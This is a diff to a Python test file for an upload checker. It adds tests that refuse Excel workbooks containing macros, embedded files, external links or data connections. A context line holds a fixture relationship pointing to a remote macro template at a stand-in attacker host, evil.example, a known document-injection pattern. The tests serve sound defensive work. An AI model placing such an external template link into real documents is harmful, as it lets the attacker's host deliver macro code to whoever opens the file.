@@ -6,7 +6,7 @@ import pytest
 
 from tests.printing import uploads
 from zcforms.domain.errors import UploadRefused
-from zcforms.printing import docx
+from zcforms.printing import docx, spreadsheet
 
 LINK = b'<Relationship Id="r1" Type="http://x/relationships/%s" Target="http://evil.example/t.dotm" TargetMode="External"/>'
 
@@ -72,3 +72,31 @@ def test_another_zip_does_not_look_like_a_document() -> None:
     assert docx.kind_of(uploads.archive({"OFD.xml": b""})) == "ofd"
     assert docx.kind_of(uploads.archive({"a.txt": b""})) == "zip"
     assert docx.kind_of(b"PK\x03\x04") == "zip"
+
+
+WORKBOOK = {
+    "[Content_Types].xml": uploads.CONTENT_TYPES.format(kind="spreadsheetml.sheet").encode(),
+    "xl/workbook.xml": b"<workbook/>",
+}
+
+
+def test_a_plain_workbook_passes() -> None:
+    docx.hold(spreadsheet.write("汇总表", [("姓名", 10)], [["王明"]]), "xlsx")
+    docx.hold(uploads.archive({**WORKBOOK, "xl/printerSettings/printerSettings1.bin": b"paper"}), "xlsx")
+
+
+@pytest.mark.parametrize(
+    ("extra", "complaint"),
+    [
+        ({"xl/vbaProject.bin": b"macro"}, "宏"),
+        ({"xl/embeddings/other.docx": b"x"}, "嵌有"),
+        ({"xl/externalLinks/externalLink1.xml": b"x"}, "外部数据"),
+        ({"xl/connections.xml": b"x"}, "外部数据"),
+        ({"[Content_Types].xml": b"ms-excel.sheet.macroEnabled.main+xml"}, "启用了宏"),
+        ({"[Content_Types].xml": b"wordprocessingml.document.main+xml"}, "已损坏"),
+    ],
+)
+def test_a_workbook_that_acts_or_fetches_is_refused(extra: dict[str, bytes], complaint: str) -> None:
+    with pytest.raises(UploadRefused, match=complaint) as refused:
+        docx.hold(uploads.archive({**WORKBOOK, **extra}), "xlsx")
+    assert str(refused.value).startswith("Excel 表格")
